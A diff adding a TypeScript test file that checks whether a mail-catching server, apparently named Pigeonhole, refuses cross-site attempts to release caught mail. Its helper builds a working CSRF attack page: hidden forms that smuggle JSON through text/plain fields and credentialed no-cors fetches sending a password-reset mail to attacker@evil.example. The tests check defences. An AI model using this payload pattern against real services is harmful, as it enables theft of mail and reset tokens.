@@ -1,0 +1,139 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { Writable } from 'node:stream';
+import { pino } from 'pino';
+import type { Pigeonhole, StartOptions } from 'pigeonhole';
+import { afterEach, describe, expect, it } from 'vitest';
+import { browser } from './helpers/browser';
+import { start } from './helpers/pigeonhole';
+import { transport } from './helpers/smtp';
+
+/**
+ * The cross-site release as an attacker runs it: a real Chromium visits a page on another origin
+ * (`http://attacker.localhost:PORT`, which Chromium resolves to loopback itself) that posts to
+ * Pigeonhole's release routes with forms (urlencoded, and `text/plain` carrying a JSON body) and
+ * `fetch(..., { mode: 'no-cors', credentials: 'include' })`, none of which needs a preflight. A second
+ * Pigeonhole is the relay: it must receive nothing, with and without `--ui-auth` (with it, the browser
+ * has logged in first, so cached credentials go along).
+ */
+
+const servers = new Set<Server>();
+afterEach(async () => {
+  await Promise.all([...servers].map((s) => new Promise((resolve) => s.close(resolve))));
+  servers.clear();
+});
+
+/**
+ * The attacker's page: three forms posted into frames and two no-cors fetches, then one form posted
+ * as a top-level navigation (Chromium keys cached credentials by top-level site, so the frames' posts
+ * go without them but the navigation carries them).
+ */
+function attackPage(target: string, mailhogId: string): string {
+  const release = `${target}/api/v1/message/latest/release`;
+  const mailhog = `${target}/api/v1/messages/${mailhogId}/release`;
+  const body = JSON.stringify({ To: ['attacker@evil.example'] });
+  return `<!doctype html><meta charset="utf-8"><title>Free kittens</title>
+<iframe name="f1"></iframe><iframe name="f2"></iframe><iframe name="f3"></iframe>
+<form id="urlencoded" method="POST" action="${release}" target="f1">
+  <input type="hidden" name='{"To":["attacker@evil.example"],"x":"' value='"}'>
+</form>
+<form id="plain" method="POST" enctype="text/plain" action="${release}" target="f2">
+  <input type="hidden" name='{"To":["attacker@evil.example"],"x":"' value='"}'>
+</form>
+<form id="mailhog" method="POST" enctype="text/plain" action="${mailhog}" target="f3">
+  <input type="hidden" name='{"Email":"attacker@evil.example","x":"' value='"}'>
+</form>
+<form id="top" method="POST" enctype="text/plain" action="${release}" target="_top">
+  <input type="hidden" name='{"To":["attacker@evil.example"],"x":"' value='"}'>
+</form>
+<script>
+  const loaded = [...document.querySelectorAll('iframe')].map(
+    (frame) => new Promise((resolve) => frame.addEventListener('load', resolve, { once: true })),
+  );
+  for (const id of ['urlencoded', 'plain', 'mailhog']) document.getElementById(id).submit();
+  const post = (url, body) => fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => null);
+  Promise.all([
+    ...loaded,
+    post(${JSON.stringify(release)}, ${JSON.stringify(body)}),
+    post(${JSON.stringify(mailhog)}, ${JSON.stringify(JSON.stringify({ Email: 'attacker@evil.example' }))}),
+  ]).then(() => document.getElementById('top').submit());
+</script>`;
+}
+
+/** Serves the attacker's page on 127.0.0.1:0 and answers with its port. */
+async function attacker(html: string): Promise<number> {
+  const server = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(html));
+  servers.add(server);
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return (server.address() as AddressInfo).port;
+}
+
+/** Pigeonhole with one caught mail, its relay sink, and a count of requests it refused as cross-site. */
+async function victim(options: StartOptions = {}): Promise<{ p: Pigeonhole; sink: Pigeonhole; refused: () => number }> {
+  let refused = 0;
+  const stream = new Writable({
+    write(chunk: Buffer, _encoding, done) {
+      refused += chunk.toString().split('cross-site state change refused').length - 1;
+      refused += chunk.toString().split('non-JSON state change refused').length - 1;
+      done();
+    },
+  });
+  const sink = await start();
+  const p = await start({
+    smtpRelayHost: '127.0.0.1',
+    smtpRelayPort: sink.smtpPort,
+    logger: pino({ level: 'info' }, stream),
+    ...options,
+  });
+  await transport(p).sendMail({
+    from: 'app@example.test',
+    to: 'user@example.test',
+    subject: 'Reset your password',
+    text: 'https://app.example.test/reset?token=secret',
+  });
+  return { p, sink, refused: () => refused };
+}
+
+/** Runs the attack and answers the text of the page the final top-level post landed on. */
+async function runAttack(p: Pigeonhole, credentials?: { username: string; password: string }): Promise<string> {
+  const port = await attacker(attackPage(p.httpUrl, p.store.latest()!.id));
+  const context = await (await browser()).newContext(credentials ? { httpCredentials: credentials } : {});
+  try {
+    const page = await context.newPage();
+    if (credentials) {
+      // Logged in on Pigeonhole's own origin first: the browser now holds its Basic credentials.
+      const own = await page.goto(`${p.httpUrl}/api/v1/info`);
+      expect(own?.status()).toBe(200);
+    }
+    const landed = page.waitForURL(`${p.httpUrl}/**`, { timeout: 15_000 });
+    await page.goto(`http://attacker.localhost:${port}/`);
+    await landed;
+    return (await page.content()).replace(/<[^>]+>/g, '');
+  } finally {
+    await context.close();
+  }
+}
+
+describe('cross-site release from a real Chromium page on another origin', () => {
+  it('relays nothing: forms and no-cors fetches are refused', async () => {
+    const { p, sink, refused } = await victim();
+    const landing = await runAttack(p);
+    // All six posts reached Pigeonhole and were refused there (not stopped by the browser).
+    expect(refused()).toBe(6);
+    expect(landing).toMatch(/cross-site request .* --api-cors/);
+    expect(sink.store.count).toBe(0);
+    expect(p.store.count).toBe(1);
+  });
+
+  it('relays nothing with --ui-auth, though the browser has logged in and sends its credentials', async () => {
+    const { p, sink, refused } = await victim({ uiAuth: 'dev:s3cret' });
+    const landing = await runAttack(p, { username: 'dev', password: 's3cret' });
+    // At least the top-level post came with the credentials and reached the guard, which refused it.
+    expect(refused()).toBeGreaterThanOrEqual(1);
+    expect(landing).toMatch(/cross-site request .* --api-cors/);
+    expect(sink.store.count).toBe(0);
+    // The sink works: the same release, same-origin and authenticated, arrives.
+    await p.client.request('POST', 'messageRelease', { id: 'latest' }, undefined, { To: ['me@example.test'] });
+    await sink.client.waitForMessage({ subject: 'Reset your password', timeout: 10_000 });
+  });
+});
